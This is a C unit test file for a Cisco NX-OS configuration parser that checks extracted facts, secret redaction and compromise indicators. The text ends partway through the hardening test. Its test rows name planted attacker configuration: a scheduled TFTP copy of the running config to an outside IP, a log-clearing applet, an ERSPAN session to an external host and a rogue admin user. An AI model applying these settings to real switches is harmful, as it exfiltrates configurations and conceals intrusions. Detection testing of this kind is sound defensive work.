/*
 * test_nxos.c: the Cisco NX-OS parser (lib/parse/nxos*.c).
 *
 * Table-driven.  Two fixtures written for this project
 * (tests/unit/data/nxos/): a clean NX-OS 9.3 leaf switch and the same kind
 * of switch carrying planted AA25-239A artefacts.  Tables check facts at
 * exact lines with their fields (and block fields at their own lines),
 * fact counts per kind, that no secret of either fixture reaches a fact,
 * and the built-in rules and indicators: every planted artefact is a
 * compromise finding at its line, the clean switch has none.  Inline rows
 * cover single statements, and a hostile-input table (NUL bytes, CRLF, a
 * BOM, a lone banner, long lines, truncation) expects no crash and the
 * facts still found.  test_corpus parses every file of the public corpus
 * (when present) with no error, and records the fact counts of the NX-OS
 * ones.
 */
#define _XOPEN_SOURCE 700
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "tidewatch/config.h"
#include "tidewatch/file.h"
#include "tidewatch/ioc.h"
#include "tidewatch/limits.h"
#include "tidewatch/rules.h"

#include "config_test_util.h"

#define CLEAN "data/nxos/clean.cfg"
#define BAD "data/nxos/compromised.cfg"
#define ANY_LINE CFG_ANY_LINE

CFG_TEST_WRAPPERS(tw_parse_nxos)

/* ---- fixtures: facts at exact lines ---------------------------------------- */

typedef struct {
    const char *file;
    tw_fact_kind kind;
    uint32_t line;
    const char *field, *value;
    uint32_t field_line;
} fact_row;

static const fact_row fact_rows[] = {
    {CLEAN, TW_FACT_VERSION, 5, "version", "9.3(10)", 0},
    {CLEAN, TW_FACT_HOSTNAME, 6, "name", "dc1-leaf1", 0},
    {CLEAN, TW_FACT_SERVICE, 12, "name", "scp", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 17, "privilege", "15", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 17, "secret_type", "5", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 18, "privilege", "1", 0},
    {CLEAN, TW_FACT_LOCAL_USER, 18, "role", "network-operator", 0},
    {CLEAN, TW_FACT_SECRET, 20, "owner", "tacacs", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 21, "address", "10.20.0.10", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 21, "key_type", "7", 0},
    {CLEAN, TW_FACT_SECRET, 21, "owner", "tacacs 10.20.0.10", 0},
    {CLEAN, TW_FACT_SECRET, 21, "type", "7", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 25, "address", "10.20.0.11", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 25, "protocol", "tacacs", 0},
    {CLEAN, TW_FACT_AAA_METHOD, 28, "method", "group TACACS", 0},
    {CLEAN, TW_FACT_AAA_METHOD, 30, "service", "commands", 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 32, "src", "10.20.0.0/24", 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 32, "dst_port", "eq 22", 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 34, "action", "deny", 0},
    {CLEAN, TW_FACT_ACL_ENTRY, 34, "list", "MGMT-ACCESS", 0},
    {CLEAN, TW_FACT_AAA_SERVER, 24, "key_type", "7", 0}, /* the key of host 10.20.0.10 */
    {CLEAN, TW_FACT_SNMP_USER, 36, "priv", "aes128", 0},
    {CLEAN, TW_FACT_SNMP_USER, 36, "auth", "sha", 0},
    {CLEAN, TW_FACT_SNMP_COMMUNITY, 39, "strength", "weak", 0},
    {CLEAN, TW_FACT_SERVICE, 16, "name", "password-strength-check", 0},
    {CLEAN, TW_FACT_SERVICE, 16, "enabled", "false", 0},
    {CLEAN, TW_FACT_SERVICE, 43, "name", "ntp-authenticate", 0},
    {CLEAN, TW_FACT_INTERFACE, 51, "redirects", "true", 0},
    {CLEAN, TW_FACT_INTERFACE, 51, "proxy_arp", "false", 0},
    {CLEAN, TW_FACT_VTY, 67, "exec_timeout", "600", 68},
    {CLEAN, TW_FACT_LOGGING, 72, "severity", "5", 0},
    {CLEAN, TW_FACT_SERVICE, 0, "name", "cdp", 0},
    {CLEAN, TW_FACT_SNMP_HOST, 37, "version", "2c", 0},
    {CLEAN, TW_FACT_SNMP_COMMUNITY, 39, "access", "ro", 0},
    {CLEAN, TW_FACT_SNMP_COMMUNITY, 40, "acl", "MGMT-ACCESS", 0},
    {CLEAN, TW_FACT_NTP_SERVER, 41, "vrf", "management", 0},
    {CLEAN, TW_FACT_NTP_SERVER, 41, "key", "1", 0},
    {CLEAN, TW_FACT_SECRET, 42, "owner", "ntp", 0},
    {CLEAN, TW_FACT_ROUTE, 45, "next_hop", "192.0.2.1", 0},
    {CLEAN, TW_FACT_ROUTE, 49, "vrf", "management", 0},
    {CLEAN, TW_FACT_INTERFACE, 51, "address", "192.0.2.10", 53},
    {CLEAN, TW_FACT_INTERFACE, 55, "description", "uplink to spine1", 56},
    {CLEAN, TW_FACT_INTERFACE, 61, "vrf", "management", 62},
    {CLEAN, TW_FACT_VTY, 67, "access_class", "MGMT-ACCESS", 70},
    {CLEAN, TW_FACT_VTY, 67, "transport_input", "ssh", 0},
    {CLEAN, TW_FACT_LOGGING_HOST, 72, "address", "10.20.0.50", 0},
    {CLEAN, TW_FACT_LOGGING_HOST, 72, "vrf", "management", 0},
    {CLEAN, TW_FACT_SERVICE, 0, "implied", "true", 0},
    {BAD, TW_FACT_HOSTNAME, 5, "name", "dc1-leaf7", 0},
    {BAD, TW_FACT_SERVICE, 7, "name", "bash-shell", 0},
    {BAD, TW_FACT_SERVICE, 8, "name", "nxapi", 0},
    {BAD, TW_FACT_SERVICE, 9, "name", "telnet", 0},
    {BAD, TW_FACT_LOCAL_USER, 15, "name", "cisco_tac_admin", 0},
    {BAD, TW_FACT_SECRET, 15, "type", "0", 0},
    {BAD, TW_FACT_AAA_SERVER, 17, "address", "45.61.133.77", 0},
    {BAD, TW_FACT_AAA_SERVER, 20, "address", "45.61.133.77", 0},
    {BAD, TW_FACT_AAA_SERVER, 20, "key_type", "0", 0},
    {BAD, TW_FACT_VTY, 48, "exec_timeout", "0", 49},
    {BAD, TW_FACT_LOGGING, 71, "setting", "trap", 0},
    {BAD, TW_FACT_ACL_ENTRY, 25, "src", "1.222.84.29", 0},
    {BAD, TW_FACT_ACL_ENTRY, 25, "seq", "15", 0},
    {BAD, TW_FACT_SERVICE, 27, "port", "18443", 0},
    {BAD, TW_FACT_SERVICE, 27, "name", "http", 0},
    {BAD, TW_FACT_SNMP_COMMUNITY, 30, "access", "rw", 0},
    {BAD, TW_FACT_SNMP_HOST, 31, "address", "5.181.132.95", 0},
    {BAD, TW_FACT_ROUTE, 34, "next_hop", "14.143.247.202", 0},
    {BAD, TW_FACT_TUNNEL, 38, "destination", "23.227.196.22", 41},
    {BAD, TW_FACT_TUNNEL, 38, "source", "loopback0", 40},
    {BAD, TW_FACT_TUNNEL, 38, "mode", "gre ip", 0},
    {BAD, TW_FACT_VTY, 48, "transport_input", "telnet", 9},
    {BAD, TW_FACT_MIRROR_SESSION, 51, "type", "span", 0},
    {BAD, TW_FACT_MIRROR_SESSION, 51, "destination", "interface Ethernet1/48", 53},
    {BAD, TW_FACT_MIRROR_SESSION, 55, "type", "erspan", 0},
    {BAD, TW_FACT_MIRROR_SESSION, 55, "destination", "37.120.239.52", 58},
    {BAD, TW_FACT_MIRROR_SESSION, 55, "source", "interface Ethernet1/2 both", 59},
    {BAD, TW_FACT_SCRIPT, 62, "action", "clear logging logfile", 64},
    {BAD, TW_FACT_SCRIPT, 62, "event", "cli match \"show logging*\"", 63},
    {BAD, TW_FACT_SCRIPT, 66, "type", "scheduler", 0},
    {BAD, TW_FACT_SCRIPT, 66, "action",
     "copy running-config tftp://43.254.132.118/r.cfg vrf management", 67},
    {BAD, TW_FACT_SCRIPT, 69, "type", "alias", 0},
    {BAD, TW_FACT_LOGGING_HOST, 71, "address", "45.59.118.136", 0},
    {BAD, TW_FACT_ADDRESS, 65, "value", "38.71.99.145", 0},
    {BAD, TW_FACT_ADDRESS, 67, "value", "43.254.132.118", 0},
};

static void test_fixture_facts(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(fact_rows) / sizeof(fact_rows[0]); i++) {
        const fact_row *r = &fact_rows[i];
        parsed p;
        parse_file(&p, r->file);
        print_message("row %zu: %s line %u %s=%s\n", i, tw_fact_kind_name(r->kind), r->line,
                      r->field, r->value);
        assert_int_equal(p.rc, TW_OK);
        assert_true(has(&p, r->kind, r->line, r->field, r->value, r->field_line));
        done(&p);
    }
}

/* ---- fixtures: counts per kind --------------------------------------------- */

typedef struct {
    const char *file;
    tw_fact_kind kind;
    size_t n;
} count_row;

static const count_row count_rows[] = {
    {CLEAN, TW_FACT_HOSTNAME, 1},     {CLEAN, TW_FACT_LOCAL_USER, 2},
    {CLEAN, TW_FACT_AAA_SERVER, 4},   {CLEAN, TW_FACT_ACL_ENTRY, 3},
    {CLEAN, TW_FACT_SNMP_HOST, 1},    {CLEAN, TW_FACT_SNMP_COMMUNITY, 2},
    {CLEAN, TW_FACT_SECRET, 6},       {CLEAN, TW_FACT_INTERFACE, 3},
    {CLEAN, TW_FACT_TUNNEL, 0},       {CLEAN, TW_FACT_MIRROR_SESSION, 0},
    {CLEAN, TW_FACT_SCRIPT, 0},       {CLEAN, TW_FACT_SERVICE, 5},
    {CLEAN, TW_FACT_ROUTE, 2},        {CLEAN, TW_FACT_VTY, 1},
    {CLEAN, TW_FACT_LOGGING, 2},      {CLEAN, TW_FACT_ROUTING_PEER, 0},
    {BAD, TW_FACT_AAA_SERVER, 4},     {BAD, TW_FACT_TUNNEL, 1},
    {BAD, TW_FACT_MIRROR_SESSION, 2}, {BAD, TW_FACT_SCRIPT, 3},
    {BAD, TW_FACT_LOCAL_USER, 2},     {BAD, TW_FACT_SERVICE, 8},
    {BAD, TW_FACT_LOGGING_HOST, 1},   {BAD, TW_FACT_ACL_ENTRY, 3},
};

static void test_fixture_counts(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(count_rows) / sizeof(count_rows[0]); i++) {
        parsed p;
        parse_file(&p, count_rows[i].file);
        print_message("row %zu: %s\n", i, tw_fact_kind_name(count_rows[i].kind));
        assert_int_equal(count(&p, count_rows[i].kind), count_rows[i].n);
        assert_int_equal(p.diags.n, 0);
        assert_int_equal(p.fs.dialect, TW_DIALECT_NXOS);
        done(&p);
    }
}

/* ---- secrets --------------------------------------------------------------- */

static const char *const secrets[] = {
    "Fewhg12345", "Sup3rS3cret", "pl4inkey", "Pr1vComm",  "Ro0Comm", "Ntp0Key",
    "$5$KLMNOP",  "0x3a5b7c9d",  "cisco123", "AuthText1", "Hs4Key",
};

static const char secret_cfg[] =
    "interface Vlan10\n"
    "  hsrp 10\n"
    "    authentication text AuthText1\n"
    "    authentication md5 key-string Hs4Key\n"
    "key chain KC\n"
    "  key 1\n"
    "    key-string 7 cisco123\n"
    "snmp-server user u1 network-operator auth md5 cisco123 priv cisco123 localizedkey\n"
    "radius-server host 10.0.0.9 key 7 \"cisco123\" authentication accounting\n";

static void test_secrets(void **state)
{
    const char *const files[] = {CLEAN, BAD};
    parsed p;

    (void)state;
    for (size_t f = 0; f < 2; f++) {
        parse_file(&p, files[f]);
        for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++)
            assert_false(leaks(&p, secrets[i]));
        done(&p);
    }
    parse(&p, secret_cfg);
    for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++)
        assert_false(leaks(&p, secrets[i]));
    assert_true(has(&p, TW_FACT_SECRET, 3, "owner", "fhrp", 0));
    assert_true(has(&p, TW_FACT_SECRET, 7, "owner", "key-chain KC", 0));
    assert_true(has(&p, TW_FACT_SECRET, 7, "type", "7", 0));
    assert_true(has(&p, TW_FACT_SNMP_USER, 8, "priv", "des", 0));
    assert_true(has(&p, TW_FACT_AAA_SERVER, 9, "protocol", "radius", 0));
    assert_true(has(&p, TW_FACT_SECRET, 9, "owner", "radius 10.0.0.9", 0));
    assert_int_equal(count(&p, TW_FACT_SECRET), 4);
    done(&p);
}

/* ---- inline statements ----------------------------------------------------- */

typedef struct {
    const char *cfg;
    tw_fact_kind kind;
    uint32_t line;
    const char *field, *value;
    uint32_t field_line;
} inline_row;

static const inline_row inline_rows[] = {
    {"hostname h1\n", TW_FACT_HOSTNAME, 1, "name", "h1", 0},
    {"no feature ssh\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
    {"no feature ssh\nline vty\n", TW_FACT_VTY, 2, "name", "vty", 0},
    {"feature guestshell\n", TW_FACT_SERVICE, 1, "name", "guestshell", 0},
    {"guestshell enable\n", TW_FACT_SERVICE, 1, "name", "guestshell", 0},
    {"feature netconf\n", TW_FACT_SERVICE, 1, "name", "netconf", 0},
    {"no nxapi http\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
    {"ssh server port 22122\n", TW_FACT_SERVICE, 1, "port", "22122", 0},
    {"ssh port 10022\n", TW_FACT_SERVICE, 1, "name", "ssh", 0},
    {"ip route 10.9.0.0 255.255.0.0 192.0.2.9\n", TW_FACT_ROUTE, 1, "prefix", "10.9.0.0/16", 0},
    {"ip route 10.9.0.0/16 Ethernet1/1 192.0.2.9 tag 5\n", TW_FACT_ROUTE, 1, "interface",
     "Ethernet1/1", 0},
    {"ipv6 route 2001:db8::/32 2001:db8:1::1\n", TW_FACT_ROUTE, 1, "next_hop", "2001:db8:1::1", 0},
    {"ipv6 access-list V6\n  10 permit tcp 2001:db8::/32 any eq 22\n", TW_FACT_ACL_ENTRY, 2,
     "family", "ipv6", 0},
    {"ip access-list A\n  10 remark allow mgmt\n", TW_FACT_ACL_ENTRY, 2, "remark", "allow mgmt", 0},
    {"ip access-list A\n  permit ip addrgroup G any\n", TW_FACT_ACL_ENTRY, 2, "src", "addrgroup G",
     0},
    {"interface Ethernet1/2\n  ip address 10.1.1.1 255.255.255.0\n  shutdown\n", TW_FACT_INTERFACE,
     1, "shutdown", "true", 0},
    {"interface Ethernet1/2\n  ipv6 address 2001:db8::1/64\n", TW_FACT_INTERFACE, 1, "address",
     "2001:db8::1", 2},
    {"logging server 192.0.2.5 5 port 6514 secure\n", TW_FACT_LOGGING_HOST, 1, "transport", "tls",
     0},
    {"logging server 192.0.2.5 5 port 6514 secure\n", TW_FACT_LOGGING_HOST, 1, "port", "6514", 0},
    {"no logging console\n", TW_FACT_LOGGING, 1, "enabled", "false", 0},
    {"ntp peer 192.0.2.7 use-vrf mgmt\n", TW_FACT_NTP_SERVER, 1, "vrf", "mgmt", 0},
    {"snmp-server community C1 rw\n", TW_FACT_SNMP_COMMUNITY, 1, "access", "rw", 0},
    {"aaa group server radius R\n  server rad1\n", TW_FACT_AAA_SERVER, 2, "name", "rad1", 0},
    {"tacacs-server host tac.example.net port 4949\n", TW_FACT_AAA_SERVER, 1, "port", "4949", 0},
    {"username u1 role network-admin\n", TW_FACT_LOCAL_USER, 1, "privilege", "15", 0},
    {"username u2 password 8 $8$abc role vdc-admin\n", TW_FACT_LOCAL_USER, 1, "secret_type", "8",
     0},
    {"monitor session 3 type erspan-destination\n  source ip 192.0.2.9\n", TW_FACT_MIRROR_SESSION,
     1, "source", "ip 192.0.2.9", 2},
    {"event manager applet A\n  event syslog pattern \"X\"\n  action 1 syslog msg hi\n",
     TW_FACT_SCRIPT, 1, "action", "syslog msg hi", 3},
    {"interface tunnel 5\n  tunnel mode ipip\n  tunnel destination peer.example.net\n",
     TW_FACT_TUNNEL, 1, "destination", "peer.example.net", 3},
    {"interface tunnel 5\n  tunnel mode ipip\n", TW_FACT_TUNNEL, 1, "mode", "ipip", 2},
    {"switch# show running-config\n!Command: show running-config\nswitchname s9\n",
     TW_FACT_HOSTNAME, 3, "name", "s9", 0},
    {"banner motd #\nhostname fake\n#\nhostname real\n", TW_FACT_HOSTNAME, 4, "name", "real", 0},
    {"banner motd @one line@\nhostname real\n", TW_FACT_HOSTNAME, 2, "name", "real", 0},
    {"banner motd @one line@\n", TW_FACT_SERVICE, 1, "name", "banner", 0},
    {"cdp enable\n", TW_FACT_SERVICE, 1, "enabled", "true", 0},
    {"hostname h\n", TW_FACT_SERVICE, 0, "name", "cdp", 0},
    {"no feature lldp\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
    {"no ntp authenticate\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
    {"no password strength-check\n", TW_FACT_SERVICE, 1, "name", "password-strength-check", 0},
    {"no password strength-check\n", TW_FACT_SERVICE, 1, "enabled", "false", 0},
    {"aaa authentication rejected 3 in 20 ban 300\n", TW_FACT_SERVICE, 1, "name", "login-block", 0},
    {"logging server syslog.example.net 3\n", TW_FACT_LOGGING, 1, "severity", "3", 0},
    {"aaa authentication login console local\n", TW_FACT_AAA_METHOD, 1, "list", "console", 0},
    {"aaa authorization config-commands default group T\n", TW_FACT_AAA_METHOD, 1, "service",
     "config-commands", 0},
    {"radius-server key 7 \"k\"\naaa group server radius R\n  server 10.0.0.8\n",
     TW_FACT_AAA_SERVER, 3, "key_type", "7", 0},
    {"snmp-server user u auth sha-512 K priv 3des K\n", TW_FACT_SNMP_USER, 1, "auth", "sha512", 0},
    {"snmp-server user u auth sha-512 K priv 3des K\n", TW_FACT_SNMP_USER, 1, "priv", "3des", 0},
    {"ssh ciphers aes256-gcm,,aes128-ctr\n", TW_FACT_SERVICE, 1, "cipher", "aes128-ctr", 0},
    {"line vty\n  exec-timeout 0\n", TW_FACT_VTY, 1, "exec_timeout", "0", 2},
    {"interface Vlan5\n  ip address 10.5.0.1 255.255.255.0\n  no ip directed-broadcast\n",
     TW_FACT_INTERFACE, 1, "directed_broadcast", "false", 3},
};

static void test_inline(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(inline_rows) / sizeof(inline_rows[0]); i++) {
        const inline_row *r = &inline_rows[i];
        parsed p;
        parse(&p, r->cfg);
        print_message("row %zu: %s", i, r->cfg);
        assert_int_equal(p.rc, TW_OK);
        assert_true(has(&p, r->kind, r->line, r->field, r->value, r->field_line));
        done(&p);
    }
}

/* Statements that make no fact of a kind, or only the one counted. */
static const struct {
    const char *cfg;
    tw_fact_kind kind;
    size_t n;
} none_rows[] = {
    {"no feature ssh\n", TW_FACT_SERVICE, 2}, /* enabled false, no implied SSH; implied CDP */
    {"snmp-server host 10.0.0.1 use-vrf management\n", TW_FACT_SNMP_HOST, 0},
    {"banner motd #\nhostname fake\n#\n", TW_FACT_HOSTNAME, 0},
    {"username u3 sshkey ssh-rsa AAAAB3NzaC1yc2E\n", TW_FACT_LOCAL_USER, 0},
    {"ssh key rsa 2048\n", TW_FACT_SECRET, 0},
    {"scheduler job name j\n  end-job\n", TW_FACT_ADDRESS, 0},
    {"vrf context V\n  ip route 10.0.0.0/8 192.0.2.1\nip route 10.0.0.0/8 192.0.2.1\n",
     TW_FACT_ROUTE, 2},
    {"no cdp enable\n", TW_FACT_SERVICE, 2}, /* and the implied SSH, no implied CDP */
    {"aaa authentication login error-enable\n", TW_FACT_AAA_METHOD, 0},
    {"aaa authentication login default fallback error local disable\n", TW_FACT_AAA_METHOD, 0},
    {"ssh login-attempts 3\n", TW_FACT_SERVICE, 2},
    {"userpassphrase max-length 80\n", TW_FACT_SERVICE, 2},
    {"logging server 10.0.0.9\n", TW_FACT_LOGGING, 0}, /* no level, no trap fact */
    {"ssh key rsa 2048\n", TW_FACT_SERVICE, 2},
};

static void test_none(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(none_rows) / sizeof(none_rows[0]); i++) {
        parsed p;
        parse(&p, none_rows[i].cfg);
        print_message("row %zu: %s", i, none_rows[i].cfg);
        assert_int_equal(count(&p, none_rows[i].kind), none_rows[i].n);
        done(&p);
    }
}

/* ---- hardening facts ------------------------------------------------------- */

/* A leaf switch that writes every setting the hardening rules test; the
 * line number of each statement is in its comment. */
static const char hard_cfg[] =
    "!Command: show running-config\n"                              /* 1 */
    "version 9.3(10) Bios:version 05.45\n"                         /* 2 */
    "switchname leaf9\n"                                           /* 3 */
    "feature lldp\n"                                               /* 4 */
    "no cdp enable\n"                                              /* 5 */
    "userpassphrase min-length 12 max-length 80\n"                 /* 6 */
    "login block-for 120 attempts 5 within 60\n"                   /* 7 */
    "banner motd #\n"                                              /* 8 */
    "Authorised access only 192.0.2.99\n"                          /* 9 */
    "#\n"                                                          /* 10 */
    "ssh cipher-mode weak\n"                                       /* 11 */
    "ssh ciphers aes256-ctr,aes128-cbc\n"                          /* 12 */
    "ssh macs hmac-sha2-256 hmac-sha1\n"                           /* 13 */
    "ssh kexalgos ecdh-sha2-nistp384 diffie-hellman-group1-sha1\n" /* 14 */
    "tacacs-server host 10.9.0.1\n"                                /* 15 */
    "tacacs-server key 7 \"Gl0balKey99x\"\n"                       /* 16 */
    "radius-server host 10.9.0.2\n"                                /* 17 */
    "aaa group server tacacs+ TAC\n"                               /* 18 */
    "    server 10.9.0.1\n"                                        /* 19 */
    "    server 10.9.0.3\n"                                        /* 20 */
    "aaa authentication login default group TAC local\n"           /* 21 */
    "aaa authentication login error-enable\n"                      /* 22 */
    "aaa authorization commands default group TAC local\n"         /* 23 */
    "ntp server 10.9.0.4 use-vrf management key 3\n"               /* 24 */
    "ntp authenticate\n"                                           /* 25 */
    "snmp-server user ops network-operator auth sha-256 0xabc priv aes-128 0xdef "
    "localizedkey\n"                                                                 /* 26 */
    "snmp-server user old network-operator auth md5 0xabc priv 0xdef localizedkey\n" /* 27 */
    "snmp-server user noauth network-operator\n"                                     /* 28 */
    "snmp-server community public group network-operator\n"                          /* 29 */
    "snmp-server community Xy7kLm9pQ2wZr group network-operator\n"                   /* 30 */
    "logging server 10.9.0.5 4 use-vrf management\n"                                 /* 31 */
    "logging server 10.9.0.6 6 port 6514 secure use-vrf management\n"                /* 32 */
    "interface Vlan10\n"                                                             /* 33 */
    "  no ip redirects\n"                                                            /* 34 */
    "  ip address 10.10.0.1/24\n"                                                    /* 35 */
    "  ip proxy-arp\n"                                                               /* 36 */
    "interface Ethernet1/1\n"                                                        /* 37 */
    "  ip address 10.11.0.1/30\n"                                                    /* 38 */
    "  ip directed-broadcast\n"                                                      /* 39 */
    "interface Ethernet1/2\n"                                                        /* 40 */
    "  switchport\n"                                                                 /* 41 */
    "line vty\n"                                                                     /* 42 */
    "  exec-timeout 15\n"                                                            /* 43 */
    "router bgp 65001\n"                                                             /* 44 */
    "  template peer SPINE\n"                                                        /* 45 */
    "    remote-as 65000\n"                                                          /* 46 */
    "    password 3 abcdef0123\n"                                                    /* 47 */
    "  template peer NOPW\n"                                                         /* 48 */
    "    remote-as 65010\n"                                                          /* 49 */
    "  neighbor 10.0.0.1\n"                                                          /* 50 */
    "    inherit peer SPINE\n"                                                       /* 51 */
    "    address-family ipv4 unicast\n"                                              /* 52 */
    "  neighbor 10.0.0.2 remote-as 65002\n"                                          /* 53 */
    "    password 3 0123abcdef\n"                                                    /* 54 */
    "  neighbor 10.0.0.3\n"                                                          /* 55 */
    "    inherit peer NOPW\n"                                                        /* 56 */
    "  neighbor 10.0.0.4\n"                                                          /* 57 */
    "    remote-as 1.10\n"                                                           /* 58 */
    "  vrf TENANT\n"                                                                 /* 59 */
    "    neighbor 10.1.0.1 remote-as 65100\n"                                        /* 60 */
    "      password 3 fedcba9876\n"                                                  /* 61 */
    "    neighbor 10.1.0.2\n"                                                        /* 62 */
    "      inherit peer LATE\n"                                                      /* 63 */
    "  template peer LATE\n"                                                         /* 64 */
    "    remote-as 65200\n"                                                          /* 65 */
    "    password 3 aaaabbbbcc\n" /* 66 */;

typedef struct {
    tw_fact_kind kind;
    uint32_t line;
    const char *field, *value;
    uint32_t field_line;
} line_row;

static const line_row hard_rows[] = {
    {TW_FACT_SERVICE, 4, "name", "lldp", 0},
    {TW_FACT_SERVICE, 4, "enabled", "true", 0},
    {TW_FACT_SERVICE, 5, "name", "cdp", 0},
    {TW_FACT_SERVICE, 5, "enabled", "false", 0},
    {TW_FACT_SERVICE, 6, "name", "password-policy", 0},
    {TW_FACT_SERVICE, 6, "min_length", "12", 0},
    {TW_FACT_SERVICE, 7, "name", "login-block", 0},
    {TW_FACT_SERVICE, 7, "enabled", "true", 0},
    {TW_FACT_SERVICE, 8, "name", "banner", 0},
    {TW_FACT_SERVICE, 8, "enabled", "true", 0},
    {TW_FACT_SERVICE, 11, "cipher", "weak", 0},
    {TW_FACT_SERVICE, 12, "cipher", "aes256-ctr", 0},
    {TW_FACT_SERVICE, 12, "cipher", "aes128-cbc", 0},
    {TW_FACT_SERVICE, 13, "mac", "hmac-sha1", 0},
    {TW_FACT_SERVICE, 14, "kex", "diffie-hellman-group1-sha1", 0},
    {TW_FACT_SERVICE, 14, "name", "ssh", 0},
    /* the global key (line 16) is written after the host */
    {TW_FACT_AAA_SERVER, 15, "key_type", "7", 0},
    {TW_FACT_AAA_SERVER, 19, "key_type", "7", 0},
    {TW_FACT_AAA_SERVER, 20, "key_type", "7", 0},
    {TW_FACT_AAA_METHOD, 21, "type", "authentication", 0},
    {TW_FACT_AAA_METHOD, 21, "service", "login", 0},
    {TW_FACT_AAA_METHOD, 21, "method", "group TAC", 0},
    {TW_FACT_AAA_METHOD, 23, "type", "authorization", 0},
    {TW_FACT_AAA_METHOD, 23, "service", "commands", 0},
    {TW_FACT_NTP_SERVER, 24, "key", "3", 0},
    {TW_FACT_SERVICE, 25, "name", "ntp-authenticate", 0},
    {TW_FACT_SERVICE, 25, "enabled", "true", 0},
    {TW_FACT_SNMP_USER, 26, "auth", "sha256", 0},
    {TW_FACT_SNMP_USER, 26, "priv", "aes128", 0},
    {TW_FACT_SNMP_USER, 27, "auth", "md5", 0},
    {TW_FACT_SNMP_USER, 27, "priv", "des", 0},
    {TW_FACT_SNMP_COMMUNITY, 29, "strength", "weak", 0},
    {TW_FACT_SNMP_COMMUNITY, 30, "strength", "ok", 0},
    {TW_FACT_LOGGING, 31, "setting", "trap", 0},
    {TW_FACT_LOGGING, 31, "severity", "4", 0},
    {TW_FACT_LOGGING_HOST, 31, "severity", "4", 0},
    {TW_FACT_LOGGING, 32, "severity", "6", 0},
    {TW_FACT_LOGGING_HOST, 32, "transport", "tls", 0},
    {TW_FACT_INTERFACE, 33, "redirects", "false", 34},
    {TW_FACT_INTERFACE, 33, "proxy_arp", "true", 36},
    {TW_FACT_INTERFACE, 33, "directed_broadcast", "false", 0},
    {TW_FACT_INTERFACE, 37, "redirects", "true", 0},
    {TW_FACT_INTERFACE, 37, "proxy_arp", "false", 0},
    {TW_FACT_INTERFACE, 37, "directed_broadcast", "true", 39},
    {TW_FACT_VTY, 42, "exec_timeout", "900", 43},
    /* inherits remote AS and password from template SPINE */
    {TW_FACT_ROUTING_PEER, 50, "protocol", "bgp", 0},
    {TW_FACT_ROUTING_PEER, 50, "address", "10.0.0.1", 0},
    {TW_FACT_ROUTING_PEER, 50, "group", "SPINE", 51},
    {TW_FACT_ROUTING_PEER, 50, "remote_as", "65000", 46},
    {TW_FACT_ROUTING_PEER, 50, "auth", "true", 47},
    {TW_FACT_ROUTING_PEER, 53, "remote_as", "65002", 0},
    {TW_FACT_ROUTING_PEER, 53, "auth", "true", 54},
    {TW_FACT_ROUTING_PEER, 55, "remote_as", "65010", 49},
    {TW_FACT_ROUTING_PEER, 55, "auth", "false", 0},
    {TW_FACT_ROUTING_PEER, 57, "remote_as", "65546", 58}, /* asdot 1.10 */
    {TW_FACT_ROUTING_PEER, 57, "auth", "false", 0},
    {TW_FACT_ROUTING_PEER, 60, "vrf", "TENANT", 59},
    {TW_FACT_ROUTING_PEER, 60, "auth", "true", 61},
    /* template LATE is written after the neighbour that inherits it */
    {TW_FACT_ROUTING_PEER, 62, "vrf", "TENANT", 59},
    {TW_FACT_ROUTING_PEER, 62, "remote_as", "65200", 65},
    {TW_FACT_ROUTING_PEER, 62, "auth", "true", 66},
};

/* Fields a fact must not have. */
static const struct {
    tw_fact_kind kind;
    uint32_t line;
    const char *field;
} hard_absent[] = {
    {TW_FACT_AAA_SERVER, 17, "key_type"}, /* no RADIUS key anywhere */
    {TW_FACT_SNMP_USER, 28, "auth"},      {TW_FACT_SNMP_USER, 28, "priv"},
    {TW_FACT_INTERFACE, 40, "redirects"}, /* no IPv4 address */
    {TW_FACT_INTERFACE, 40, "proxy_arp"}, {TW_FACT_INTERFACE, 40, "directed_broadcast"},
    {TW_FACT_ROUTING_PEER, 53, "group"},  {TW_FACT_ROUTING_PEER, 50, "vrf"},
};

static const struct {
    tw_fact_kind kind;
    size_t n;
} hard_counts[] = {
    {TW_FACT_ROUTING_PEER, 6}, /* neither templates nor address families */
    {TW_FACT_AAA_METHOD, 2},   /* not "aaa authentication login error-enable" */
    {TW_FACT_LOGGING, 2},      {TW_FACT_LOGGING_HOST, 2}, {TW_FACT_SNMP_USER, 3},
    {TW_FACT_AAA_SERVER, 4},   {TW_FACT_SERVICE, 11}, /* with the implied SSH; no implied CDP */
};

static const tw_fact *fact_at(const parsed *p, tw_fact_kind kind, uint32_t line)
{
    for (size_t i = 0; i < p->fs.n; i++) {
        if (p->fs.v[i].kind == kind && p->fs.v[i].line == line)
            return &p->fs.v[i];
    }
    return NULL;
}

static size_t nfield(const tw_fact *f, const char *name)
{
    size_t n = 0;

    for (const tw_field *x = tw_fact_get(f, name); x != NULL; x = tw_fact_next(f, name, x))
        n++;
    return n;
}

static void test_hardening(void **state)
{
    static const char *const hidden[] = {"Gl0balKey99x", "Xy7kLm9pQ2wZr", "abcdef0123",
                                         "aaaabbbbcc",   "0xabc",         "public"};
    parsed p;

    (void)state;
    parse(&p, hard_cfg);
    assert_int_equal(p.rc, TW_OK);
    assert_int_equal(p.diags.n, 0);
